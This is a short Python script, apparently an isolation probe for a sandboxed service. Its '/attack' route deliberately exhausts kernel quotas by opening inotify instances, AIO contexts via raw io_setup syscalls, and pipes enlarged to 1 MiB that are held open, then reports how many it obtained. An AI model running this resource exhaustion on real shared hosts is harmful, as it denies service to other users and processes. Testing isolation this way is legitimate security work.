import ctypes
import fcntl
import os

from service import route, serve

libc = ctypes.CDLL(None, use_errno=True)
io_setup, set_pipe_size = 206, 1031
kept = []


def count(step, most):
    for number in range(most):
        try:
            if step() < 0:
                return number, os.strerror(ctypes.get_errno())
        except OSError as error:
            return number, str(error)
    return most, "no end"


def open_big_pipe():
    kept.append(os.pipe())
    return fcntl.fcntl(kept[-1][1], set_pipe_size, 1 << 20)


@route("/attack")
def use_up_quotas():
    taken = {
        "inotify": count(libc.inotify_init, 200),
        "aio": count(lambda: libc.syscall(io_setup, 4000, ctypes.byref(ctypes.c_ulong())), 200),
        "pipes": count(open_big_pipe, 350),
    }
    print(taken)
    return taken


serve()
